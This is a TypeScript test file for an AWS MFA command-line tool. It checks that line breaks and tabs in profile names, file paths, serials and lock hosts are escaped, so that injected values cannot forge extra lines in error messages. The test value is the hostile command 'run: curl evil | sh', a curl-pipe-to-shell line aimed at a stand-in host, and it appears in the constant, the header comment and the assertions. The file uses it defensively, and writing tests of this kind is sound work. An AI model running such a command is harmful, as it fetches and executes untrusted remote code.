/**
 * A value named inside a one-line message (a profile name, a file path, a serial, a lock's
 * host) is shown with its tab and line breaks as \x09, \x0a, \x0d (system/printable.ts
 * printableInLine): messages are lines on purpose (message, then hint), so a value holding a
 * line break could otherwise fake a line of its own, e.g. a hint "run: curl evil | sh".
 * The error printer keeps real line breaks, so the escaping is done where values go in.
 */
import { afterAll, describe, expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { run } from "../src/cli.ts";
import { describeHolder } from "../src/fs/lock-record.ts";
import { testDeps } from "./support/test-deps.ts";

const FAKE = "\nrun: curl evil | sh\t";
const top = mkdtempSync(join(tmpdir(), "awsmfa-msgvalues-"));
afterAll(() => rmSync(top, { recursive: true, force: true }));

/** A home whose AWS files live in a folder named `folder` (which may hold a line break). */
function home(folder: string, config: string, credentials = ""): Record<string, string> {
  const dir = join(mkdtempSync(join(top, "h-")), folder);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, "config"), config);
  writeFileSync(join(dir, "credentials"), credentials);
  return {
    HOME: dir,
    AWS_CONFIG_FILE: join(dir, "config"),
    AWS_SHARED_CREDENTIALS_FILE: join(dir, "credentials"),
    HTTPS_PROXY: "http://127.0.0.1:9",
    HTTP_PROXY: "http://127.0.0.1:9",
  };
}

async function stderrOf(argv: string[], env: Record<string, string>) {
  const world = testDeps({ env, homedir: env.HOME });
  const code = await run(argv, world.deps);
  return { code, stderr: world.stderr(), stdout: world.stdout() };
}

/** The same failure with a plain value and with FAKE in it: same line count, no FAKE line. */
async function sameShape(
  make: (value: string) => { argv: string[]; env: Record<string, string> },
  plainValue: string,
  exitCode?: number,
) {
  const plain = make(plainValue);
  const odd = make(`${plainValue}${FAKE}`);
  const a = await stderrOf(plain.argv, plain.env);
  const b = await stderrOf(odd.argv, odd.env);
  expect(b.code).toBe(a.code);
  if (exitCode === undefined) expect(a.code).not.toBe(0);
  else expect(a.code).toBe(exitCode);
  expect(b.stderr.split("\n").length).toBe(a.stderr.split("\n").length);
  expect(b.stderr).not.toMatch(/^run: curl/m);
  expect(b.stderr).not.toContain("\t");
  expect(b.stderr).toContain("\\x0arun: curl evil | sh");
  return b;
}

describe("values named in messages cannot add lines (printableInLine)", () => {
  test("unknown profile, named on the command line", async () => {
    await sameShape(
      (name) => ({
        argv: ["login", name, "--otp", "123456"],
        env: home("aws", "[profile known]\n"),
      }),
      "prod",
    );
  });

  test("unknown profile, from AWS_PROFILE, with no profiles in files whose folder has a line break", async () => {
    await sameShape(
      (name) => ({
        argv: ["login", "--otp", "123456"],
        env: { ...home(`dir${name}`, ""), AWS_PROFILE: `p${name}` },
      }),
      "x",
    );
  });

  test("missing long-term keys, the credentials file's path holding a line break", async () => {
    await sameShape(
      (folder) => ({
        argv: ["login", "prod\tx", "--otp", "123456"],
        env: home(folder, "[profile prod\tx]\nmfa_serial = arn:aws:iam::123456789012:mfa/a\n"),
      }),
      "aws",
    );
  });

  test("a malformed --serial", async () => {
    await sameShape(
      (serial) => ({
        argv: ["login", "prod", "--serial", serial, "--otp", "123456"],
        env: home(
          "aws",
          "[profile prod]\n",
          "[prod-long-term]\naws_access_key_id = AKIAEXAMPLEEXAMPLE12\naws_secret_access_key = x\n",
        ),
      }),
      "nonsense",
    );
  });

  test("logout: the session removed from a credentials file whose folder has a line break", async () => {
    const b = await sameShape(
      (folder) => ({
        argv: ["logout", "p"],
        env: home(
          folder,
          "[profile p]\n",
          "[p]\naws_access_key_id = ASIAEXAMPLEEXAMPLE12\naws_secret_access_key = x\naws_session_token = y\n",
        ),
      }),
      "aws",
      0,
    );
    expect(b.stderr).toContain("Removed the session of p from [p] in ");
  });

  test("an unknown --format (commander's own message), an unknown code source", async () => {
    const files = () =>
      home(
        "aws",
        "[profile prod]\n[profile role]\nsource_profile = prod\nrole_arn = ROLE\n",
        "[prod-long-term]\naws_access_key_id = AKIAEXAMPLEEXAMPLE12\naws_secret_access_key = x\n",
      );
    await sameShape((v) => ({ argv: ["prod", "--format", v], env: files() }), "xml");
    await sameShape((v) => ({ argv: ["login", "prod", "--otp-source", v], env: files() }), "nope");
  });

  test("a lock held by a process on another host", () => {
    const me = { pid: 1, host: "here", isAlive: () => true };
    const text = describeHolder({ pid: 7, host: `there${FAKE}`, time: 0, token: "t" }, me);
    expect(text).not.toContain("\n");
    expect(text).toContain("on there\\x0arun: curl evil | sh\\x09 since");
  });
});
